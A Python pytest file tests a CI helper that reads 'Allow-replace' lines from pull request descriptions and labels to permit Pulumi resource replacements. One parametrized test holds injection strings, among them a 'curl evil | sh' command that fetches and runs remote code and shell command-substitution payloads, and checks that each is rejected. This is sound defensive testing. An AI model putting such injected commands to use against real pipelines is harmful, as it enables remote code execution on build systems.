"""What a pull request's description and labels allow (pipeline/allow_replace.py)."""

from __future__ import annotations

import json

import pytest

from pipeline.allow_replace import LABEL, labels_from_env, main, read_allowance

DB = "urn:pulumi:prod::erlmcp-infra::erlmcp:regions:Region$aws:rds/instance:Instance::db"
ZONE = "urn:pulumi:prod::erlmcp-infra::aws:route53/zone:Zone::zone"


def test_named_urns_are_allowed_only_with_the_label():
    body = f"Moves the database.\n\nAllow-replace: {DB}\nallow-replace:   `{ZONE}`  \n"
    allowance = read_allowance(body, [LABEL, "docs"])
    assert allowance.urns == [DB, ZONE]
    assert allowance.value == f"{DB},{ZONE}"
    unlabelled = read_allowance(body, ["docs"])
    assert unlabelled.named == [DB, ZONE]
    assert unlabelled.urns == [] and unlabelled.value == ""


def test_a_urn_named_twice_counts_once_and_list_markup_is_read():
    body = f"- Allow-replace: {DB}\n> Allow-replace: {DB}\n* Allow-replace: {ZONE}"
    assert read_allowance(body, [LABEL]).urns == [DB, ZONE]


@pytest.mark.parametrize(
    "text",
    [
        f"{DB}' ; curl evil | sh #",
        f"{DB} {ZONE}",
        "urn:pulumi:prod::erlmcp-infra::aws:s3/bucket:Bucket::$(touch /tmp/x)",
        "urn:pulumi:prod::erlmcp-infra::aws:s3/bucket:Bucket::${shell id}",
        "everything",
        "",
        "urn:pulumi:prod::erlmcp-infra::aws:s3/bucket:Bucket",
    ],
)
def test_anything_but_one_urn_is_ignored(text):
    allowance = read_allowance(f"Allow-replace: {text}", [LABEL])
    assert allowance.urns == []
    assert allowance.ignored == [f"Allow-replace: {text}".strip()]


def test_no_body_and_bad_labels_allow_nothing():
    assert read_allowance(None, []).urns == []
    assert labels_from_env(None) == labels_from_env("not json") == labels_from_env('"x"') == []
    assert labels_from_env(json.dumps([LABEL, 3])) == [LABEL, "3"]


def test_the_cli_reads_the_environment_prints_the_value_and_writes_the_record(
    monkeypatch, tmp_path, capsys
):
    monkeypatch.setenv("PR_BODY", f"Allow-replace: {DB}\nAllow-replace: nope")
    monkeypatch.setenv("PR_LABELS", json.dumps([LABEL]))
    out = tmp_path / "allow.json"
    assert main(["--out", str(out)]) == 0
    printed = capsys.readouterr()
    assert printed.out == f"{DB}\n"
    assert "ignored (not a URN of this program): Allow-replace: nope" in printed.err
    assert json.loads(out.read_text()) == {
        "label": True,
        "named": [DB],
        "ignored": ["Allow-replace: nope"],
        "urns": [DB],
    }
